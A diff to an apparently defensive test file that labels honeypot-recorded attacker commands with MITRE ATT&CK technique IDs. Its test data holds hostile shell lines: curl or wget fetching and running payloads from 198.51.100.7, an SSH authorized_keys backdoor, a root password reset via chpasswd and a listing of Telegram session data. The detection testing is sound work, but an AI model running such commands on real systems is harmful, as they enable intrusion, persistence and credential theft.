@@ -11,7 +11,6 @@ from __future__ import annotations
 
 import csv
 import json
-import os
 import random
 import sqlite3
 import subprocess
@@ -35,7 +34,11 @@ CATALOGUE = [
     ("network", [("cmd", "ifconfig"), ("cmd", "netstat -an")], {"T1016", "T1049"}),
     ("ssh-key", [("cmd", 'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3Nza bot" >> '
                          '.ssh/authorized_keys && chmod -R go= ~/.ssh')],
-     {"T1070.004", "T1098.004", "T1222.002"}),
+     {"T1098.004", "T1222.002"}),  # rm -rf .ssh removes the owner's keys: no T1070.004
+    ("pipe-to-shell", [("cmd", "curl -s http://198.51.100.7/x/3sh | sh")], {"T1105", "T1059.004"}),
+    ("shell-c", [("cmd", 'nohup $SHELL -c "wget http://198.51.100.7/l -O /tmp/y; chmod +x /tmp/y" &')],
+     {"T1059.004", "T1105", "T1222.002"}),
+    ("own-files", [("cmd", "rm .s; exit")], {"T1070.004"}),
     ("dropper", [("cmd", "cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh"),
                  ("event", "cowrie.session.file_download",
                   {"url": "http://198.51.100.7/bins.sh", "outfile": "var/lib/cowrie/downloads/aa", "shasum": "aa"})],
@@ -59,6 +62,8 @@ CATALOGUE = [
     ("miner-kill", [("cmd", "pkill -9 xmrig"), ("cmd", "echo uname")], set()),
     ("key-read", [("cmd", "cat .ssh/authorized_keys")], set()),
     ("markers", [("cmd", "/bin/busybox ECCHI"), ("cmd", "enable"), ("cmd", "sh")], set()),
+    ("chpasswd-bash", [("cmd", "echo root:x|chpasswd|bash")], {"T1098"}),  # bash is fed nothing
+    ("telegram", [("cmd", "ls -la /home/*/.local/share/TelegramDesktop/tdata")], {"T1083"}),
 ]
 
 
@@ -205,8 +210,7 @@ print(json.dumps({"version": a.__attack_version__,
                   "techniques": {t["external_id"]: [t["name"], t["tactics"], t["revoked"] or t["deprecated"]]
                                  for t in data}}))
 """
-    tools_python = os.environ.get("CB_TOOLS_PYTHON") or str(cbtest.REPO / "build/e2e-tools-venv/bin/python")
-    got = subprocess.run([tools_python, "-c", script], capture_output=True, check=True, timeout=120)
+    got = subprocess.run([cbtest.tools_python(), "-c", script], capture_output=True, check=True, timeout=120)
     release = json.loads(got.stdout)
     assert rules["attack_version"] == release["version"]
     assert len(rules["technique"]) >= 25
